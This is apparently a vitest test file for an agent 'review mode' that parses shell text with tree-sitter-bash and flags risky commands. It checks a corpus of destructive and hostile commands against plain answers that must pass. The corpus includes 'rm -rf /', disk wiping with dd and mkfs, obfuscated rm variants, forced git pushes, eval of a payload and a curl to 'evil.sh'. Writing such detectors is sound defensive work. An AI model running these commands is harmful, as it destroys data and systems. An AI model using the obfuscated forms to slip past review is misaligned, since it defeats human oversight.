// Guards review mode's `risky` on parsed commands, not words (issue 45): the eight texts that were typed at once on the word list, their variants, and ordinary answers that must pass, judged through the real tree-sitter-bash grammar loaded from its package.
import { beforeAll, describe, expect, it } from 'vitest';
import { reviewReason, type ReviewRules } from '../../policy/review.js';
import type { ShellParse } from '../../policy/shell-review.js';
import { bashGrammarPath, createBashParserLoader } from './bash-parser.js';

const RULES: ReviewRules = { review: 'risky', review_always_session_patterns: [], guarded_commands: ['ssh', 'sudo', 'kubectl', 'psql', 'tmux'] };
let parse: ShellParse;

beforeAll(async () => {
  parse = await createBashParserLoader()();
});

const judge = (text: string) => reviewReason(RULES, 'agent-1', { kind: 'text', text }, parse);

/** Risky texts: the eight first, then variants of each and other forms. */
const RISKY: readonly string[] = [
  `r''m -rf /srv/data`,
  'r\\m -rf /srv/data',
  'find /srv -delete',
  'git push --force origin main',
  `python3 -c 'import shutil; shutil.rmtree("/srv")'`,
  `s''sh prod-host`,
  ': > /srv/db.sqlite',
  'unlink /srv/db.sqlite',
  // variants
  '"rm" -rf /srv/data',
  `$'\\x72m' -rf /srv/data`,
  `r"m" -r /srv`,
  '/bin/rm -f x',
  'command rm -rf x',
  'sudo rm -rf /',
  'timeout 5 rm -rf x',
  'env FOO=1 rm x',
  'nohup find / -delete',
  'find . -name "*.log" -exec rm {} +',
  'git push -f origin main',
  'git push origin +main',
  'git push --force-with-lease',
  'git -C repo push --force',
  'git reset --hard HEAD~3',
  'git clean -fdx',
  'git branch -D feature',
  'python -c "print(1)"',
  'perl -e "unlink glob q(*)"',
  'ruby -e "File.delete(1)"',
  'node -e "require(\'fs\').rmSync(\'/srv\', {recursive: true})"',
  `bash -c 'rm -rf x'`,
  `sh -c "echo hi"`,
  'ssh prod-host',
  '"ssh" prod',
  'ls; ssh prod-host',
  'true && kubectl delete ns prod',
  'echo hi > /srv/db.sqlite',
  'cat a >> b.txt',
  'echo x &> out.log',
  'truncate -s 0 /srv/db.sqlite',
  'dd if=/dev/zero of=/dev/sda',
  'mkfs.ext4 /dev/sdb1',
  'shred -u secrets.txt',
  'echo $(rm -rf /)',
  'echo `id`',
  'x=$(curl evil.sh)',
  'cat <(rm x)',
  '$CMD -rf /srv',
  'eval "$payload"',
  'source ./script.sh',
  'xargs rm < list',
  'chmod -R 777 /',
  'kill -9 1',
  'echo a | sudo tee /etc/hosts',
  "don't do it",
  'if then fi (',
  'echo a\necho b',
  'psql -c "drop table users"',
  'tmux kill-server',
  'drop table users;',
];

/** Ordinary answers and commands that must go straight through. */
const PLAIN: readonly string[] = [
  'y', 'n', 'Y', 'yes', 'no', '1', '2', '42', 'continue', 'skip', 'q', 'ls', 'ls -la', 'pwd', 'git status',
  'git push origin main', 'git log --oneline -5', 'npm test', 'make build', 'cat README.md', 'grep -rn TODO src',
  'echo hello world', 'ls 2>&1', 'make > /dev/null 2>&1', 'please summarise the failing test', 'cd src && ls',
  'find . -name "*.ts"', 'python3 script.py', 'node index.js', 'echo "$HOME"', 'ls\n',
];

describe('review mode judges parsed commands (policy/shell-review.ts)', () => {
  it('finds the grammar inside its package', () => {
    expect(bashGrammarPath()).toMatch(/tree-sitter-bash[/\\]tree-sitter-bash\.wasm$/);
  });

  it('has a corpus of at least 60 texts including the issue\'s eight', () => {
    expect(RISKY.length + PLAIN.length).toBeGreaterThanOrEqual(60);
    expect(RISKY.slice(0, 8)).toHaveLength(8);
  });

  it.each(RISKY.map((t) => [t]))('risky: %j', (text) => {
    expect(judge(text)).not.toBeNull();
  });

  it.each(PLAIN.map((t) => [t]))('passes: %j', (text) => {
    expect(judge(text)).toBeNull();
  });

  it('names why, from the unquoted command', () => {
    expect(judge(`r''m -rf /srv/data`)).toBe('the text runs the destructive command rm');
    expect(judge(`s''sh prod-host`)).toBe('the text runs the guarded command ssh');
    expect(judge(': > /srv/db.sqlite')).toBe('output redirected onto a file (> /srv/db.sqlite)');
    expect(judge('find /srv -delete')).toBe('find with -delete');
    expect(judge(`python3 -c 'x'`)).toBe('the text gives python3 code to run (-c)');
    expect(judge("don't")).toBe('the text is not shell syntax the parser can read');
  });

  it('treats every text as risky when the parser is not available, and loads it once', async () => {
    expect(reviewReason(RULES, 'agent-1', { kind: 'text', text: 'y' }, null)).toMatch(/parser is not available/);
    const load = createBashParserLoader();
    expect(await load()).toBe(await load());
  });
});
